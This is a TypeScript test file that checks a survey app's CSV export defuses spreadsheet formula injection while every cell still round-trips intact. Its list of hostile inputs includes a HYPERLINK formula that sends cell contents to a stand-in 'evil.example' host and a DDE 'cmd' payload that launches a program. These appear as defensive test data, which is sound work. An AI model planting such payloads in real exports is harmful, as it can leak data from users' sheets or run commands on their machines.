import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { seededRandom } from "../testing/answered-survey.ts";
import { BYTE_ORDER_MARK, csvRows, inertText } from "./csv-cells.ts";

/** Reads a file as anybody would who knows of the apostrophe. */
function readBack(csv: string): string[][] {
  const rows = parse(csv, { bom: true, relax_column_count: false, record_delimiter: "\r\n" });
  return rows.map((row) => row.map((cell) => cell.replace(/^'/, "")));
}

const hostile = [
  "=1+1",
  "+1",
  "-2+3",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "＝1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "  =1",
  "\u200B=1",
  "\uFEFF=1",
  "\u202E=1",
  '=HYPERLINK("https://evil.example?"&A1,"more")',
  "=cmd|' /C calc'!A0",
  "'=1",
  "''",
  "'",
  "it's",
  'a "quoted" word',
  "a,b;c\td",
  "two\nlines",
  "two\r\nlines",
  "a\rb",
  " space ",
  "",
  "茶壶，很好。",
  "🫖",
  "-",
];

describe("a cell of an export", () => {
  it.each(hostile)("is read back as it was written: %j", (text) => {
    expect(readBack(csvRows([[text, "next"], ["below", 5]]))).toEqual([[text, "next"], ["below", "5"]]);
  });

  it("is never a formula, whatever stands in it", () => {
    const [cells] = parse(csvRows([hostile]));
    for (const cell of cells!) expect(cell).not.toMatch(/^[\s\p{C}]*[=+\-@＝＋－＠]/u);
    for (const cell of cells!) expect(cell).not.toMatch(/^[\t\r\n]/);
  });

  it("of random characters is read back, too", () => {
    const random = seededRandom(7);
    const alphabet = ["=", "+", "-", "@", "＝", "'", '"', ",", ";", "\t", "\r", "\n", " ", "a", "茶", "\u200B", "1"];
    const text = () => Array.from({ length: Math.floor(random() * 6) }, () => alphabet[Math.floor(random() * alphabet.length)]!).join("");
    const rows = Array.from({ length: 2_000 }, () => [text(), text(), text()]);
    const csv = csvRows(rows);
    expect(readBack(csv)).toEqual(rows);
    for (const cell of parse(csv).flat()) expect(cell).not.toMatch(/^[\s\p{C}]*[=+\-@＝＋－＠]/u);
  });

  it("that is a number stays one, and nothing stays empty", () => {
    expect(csvRows([[-5, 0.5, null]])).toBe('"-5","0.5",\r\n');
    expect(inertText("5 stars")).toBe("5 stars");
  });

  it("follows the mark by which spreadsheets know UTF-8", () => {
    expect(Buffer.from(BYTE_ORDER_MARK).toString("hex")).toBe("efbbbf");
  });
});
